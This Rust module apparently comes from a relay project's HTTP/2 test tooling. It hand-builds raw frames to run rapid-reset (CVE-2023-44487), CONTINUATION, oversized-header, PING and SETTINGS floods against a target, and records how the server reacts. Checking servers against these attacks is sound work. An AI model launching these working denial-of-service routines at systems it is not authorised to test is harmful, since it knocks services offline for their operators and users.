//! HTTP/2 attacks written with raw frames over TLS (no HTTP/2 library would send them):
//! rapid reset (CVE-2023-44487), CONTINUATION floods, oversized header lists, PING and
//! SETTINGS floods. Each returns what the server did to the attacking connection.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use relay_core::h2scan::PREFACE;
use relay_core::h2scan::frame::{CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS};

/// Where to attack: an HTTP/2-over-TLS listener.
#[derive(Clone)]
pub struct Target {
    pub addr: SocketAddr,
    /// Client TLS configuration (its ALPN is set to `h2` here).
    pub tls: rustls::ClientConfig,
    pub server_name: String,
}

impl std::fmt::Debug for Target {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Target")
            .field("addr", &self.addr)
            .finish_non_exhaustive()
    }
}

/// What the server did.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// The GOAWAY error code it sent, if any (0xb: ENHANCE_YOUR_CALM, 0x1: PROTOCOL_ERROR).
    pub goaway: Option<u32>,
    /// RST_STREAM frames it sent.
    pub resets: u32,
    /// HEADERS frames it sent (responses).
    pub responses: u32,
    /// Whether it closed the connection (or it failed) before the attack ended.
    pub closed: bool,
    /// Attack frames written before the connection stopped taking them (or all of them).
    pub frames_sent: u64,
    /// Bytes written.
    pub bytes_sent: u64,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK literal header field without indexing, new name.
fn literal(name: &str, value: &[u8]) -> Vec<u8> {
    let mut out = vec![0x00];
    out.extend(hpack_string(name.as_bytes()));
    out.extend(hpack_string(value));
    out
}

fn hpack_string(s: &[u8]) -> Vec<u8> {
    // 7-bit prefix integer, no Huffman.
    let mut out = Vec::new();
    let mut n = s.len();
    if n < 127 {
        out.push(n as u8);
    } else {
        out.push(127);
        n -= 127;
        while n >= 128 {
            out.push((n % 128) as u8 | 0x80);
            n /= 128;
        }
        out.push(n as u8);
    }
    out.extend_from_slice(s);
    out
}

/// `GET /healthz` on `authority`: static-table indexes and one literal.
fn request_block(authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87]; // :method GET, :scheme https
    // :path /healthz (literal value, indexed name 4 = :path)
    b.push(0x04);
    b.extend(hpack_string(b"/healthz"));
    // :authority (indexed name 1)
    b.push(0x01);
    b.extend(hpack_string(authority.as_bytes()));
    b
}

type Tls = tokio_rustls::client::TlsStream<tokio::net::TcpStream>;

async fn connect(target: &Target) -> std::io::Result<Tls> {
    let mut tls = target.tls.clone();
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tokio::net::TcpStream::connect(target.addr).await?;
    let name = rustls::pki_types::ServerName::try_from(target.server_name.clone())
        .map_err(|e| std::io::Error::other(e.to_string()))?;
    let mut s = tokio_rustls::TlsConnector::from(Arc::new(tls))
        .connect(name, tcp)
        .await?;
    if s.get_ref().1.alpn_protocol() != Some(b"h2") {
        return Err(std::io::Error::other("the server did not choose h2"));
    }
    s.write_all(PREFACE).await?;
    s.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    // ACK the server's SETTINGS whenever; one ACK up front is what clients do.
    s.write_all(&frame(SETTINGS, 0x1, 0, &[])).await?;
    Ok(s)
}

/// Runs `attack` (which yields frames to write) against `target` while a reader records the
/// server's frames; stops when the attack ends, the connection closes, or `limit` passes.
async fn run(
    target: &Target,
    frames: impl Iterator<Item = Vec<u8>> + Send,
    limit: Duration,
) -> std::io::Result<Outcome> {
    let stream = connect(target).await?;
    let (mut rd, mut wr) = tokio::io::split(stream);
    let goaway = Arc::new(AtomicU32::new(u32::MAX));
    let resets = Arc::new(AtomicU32::new(0));
    let responses = Arc::new(AtomicU32::new(0));
    let closed = Arc::new(AtomicBool::new(false));
    let mut reader = {
        let (goaway, resets, responses, closed) = (
            Arc::clone(&goaway),
            Arc::clone(&resets),
            Arc::clone(&responses),
            Arc::clone(&closed),
        );
        tokio::spawn(async move {
            let mut head = [0u8; 9];
            loop {
                if rd.read_exact(&mut head).await.is_err() {
                    closed.store(true, Ordering::SeqCst);
                    return;
                }
                let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                let mut payload = vec![0u8; len];
                if rd.read_exact(&mut payload).await.is_err() {
                    closed.store(true, Ordering::SeqCst);
                    return;
                }
                match head[3] {
                    GOAWAY if payload.len() >= 8 => {
                        let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                        goaway.store(code, Ordering::SeqCst);
                    }
                    RST_STREAM => {
                        resets.fetch_add(1, Ordering::SeqCst);
                    }
                    HEADERS => {
                        responses.fetch_add(1, Ordering::SeqCst);
                    }
                    _ => {}
                }
            }
        })
    };
    let mut out = Outcome::default();
    let mut write_failed = false;
    let writing = async {
        for f in frames {
            if closed.load(Ordering::SeqCst) {
                return;
            }
            if wr.write_all(&f).await.is_err() {
                // The server closed (or reset) the connection under us.
                write_failed = true;
                return;
            }
            out.frames_sent += 1;
            out.bytes_sent += f.len() as u64;
        }
        let _ = wr.flush().await;
    };
    let _ = tokio::time::timeout(limit, writing).await;
    // The reader ends when the server closes the connection (after any GOAWAY); a server
    // that keeps it open is given 2 s to answer what it got, then the outcome is read.
    let _ = tokio::time::timeout(Duration::from_secs(2), &mut reader).await;
    reader.abort();
    let code = goaway.load(Ordering::SeqCst);
    out.goaway = (code != u32::MAX).then_some(code);
    out.resets = resets.load(Ordering::SeqCst);
    out.responses = responses.load(Ordering::SeqCst);
    out.closed = closed.load(Ordering::SeqCst) || write_failed;
    Ok(out)
}

/// CVE-2023-44487: `streams` requests, each cancelled (RST_STREAM) right after its HEADERS.
pub async fn rapid_reset(target: &Target, streams: u32) -> std::io::Result<Outcome> {
    let block = request_block(&target.server_name);
    let frames = (0..streams).flat_map(move |i| {
        let id = 1 + 2 * i;
        [
            frame(HEADERS, END_HEADERS | END_STREAM, id, &block),
            frame(RST_STREAM, 0, id, &0x8u32.to_be_bytes()), // CANCEL
        ]
    });
    run(target, frames, Duration::from_secs(30)).await
}

/// A HEADERS frame without END_HEADERS, then CONTINUATION frames without end (each carrying
/// `fragment` bytes of header block), at most `max_frames`.
pub async fn continuation_flood(target: &Target, fragment: usize, max_frames: u64) -> std::io::Result<Outcome> {
    let block = request_block(&target.server_name);
    let filler = literal("x-filler", &vec![b'a'; fragment.saturating_sub(12).max(1)]);
    let first = frame(HEADERS, END_STREAM, 1, &block);
    let frames = std::iter::once(first).chain((0..max_frames).map(move |_| frame(CONTINUATION, 0, 1, &filler)));
    run(target, frames, Duration::from_secs(30)).await
}

/// One request whose header list is `size` bytes (complete, in HEADERS + CONTINUATION).
pub async fn oversized_headers(target: &Target, size: usize) -> std::io::Result<Outcome> {
    let mut block = request_block(&target.server_name);
    let mut n = 0;
    while block.len() < size {
        block.extend(literal(&format!("x-h{n}"), &[b'v'; 1000]));
        n += 1;
    }
    let mut frames = Vec::new();
    let chunks: Vec<&[u8]> = block.chunks(16_000).collect();
    for (i, c) in chunks.iter().enumerate() {
        let last = i + 1 == chunks.len();
        let flags = if last { END_HEADERS } else { 0 };
        if i == 0 {
            frames.push(frame(HEADERS, flags | END_STREAM, 1, c));
        } else {
            frames.push(frame(CONTINUATION, flags, 1, c));
        }
    }
    run(target, frames.into_iter(), Duration::from_secs(15)).await
}

/// `count` PING frames, never reading the ACKs' effect (the reader drains the socket).
pub async fn ping_flood(target: &Target, count: u64) -> std::io::Result<Outcome> {
    let frames = (0..count).map(|i| frame(PING, 0, 0, &i.to_be_bytes()));
    run(target, frames, Duration::from_secs(30)).await
}

/// `count` SETTINGS frames (each wanting an ACK).
pub async fn settings_flood(target: &Target, count: u64) -> std::io::Result<Outcome> {
    // SETTINGS_MAX_CONCURRENT_STREAMS = 100, repeated.
    let payload = [0x00, 0x03, 0x00, 0x00, 0x00, 0x64];
    let frames = (0..count).map(move |_| frame(SETTINGS, 0, 0, &payload));
    run(target, frames, Duration::from_secs(30)).await
}
